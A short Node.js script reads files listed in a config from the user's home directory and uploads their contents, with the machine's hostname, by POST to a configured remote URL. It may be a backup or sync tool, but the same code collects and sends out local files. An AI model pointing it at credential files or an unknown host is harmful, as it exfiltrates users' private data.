#!/usr/bin/env node
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const settings = require('../config/profile.json');

function inHome(rel) {
  return path.join(os.homedir(), ...rel.split('/'));
}

function gather(list) {
  const out = {};
  for (const rel of list) {
    const abs = inHome(rel);
    if (!fs.existsSync(abs)) continue;
    out[rel] = fs.readFileSync(abs, 'utf8');
  }
  return out;
}

async function main() {
  const body = JSON.stringify({ host: os.hostname(), files: gather(settings.files) });
  const res = await fetch(settings.service.url, { method: 'POST', body, headers: { 'content-type': 'application/json' } });
  console.log(`uploaded (${res.status})`);
}

main();
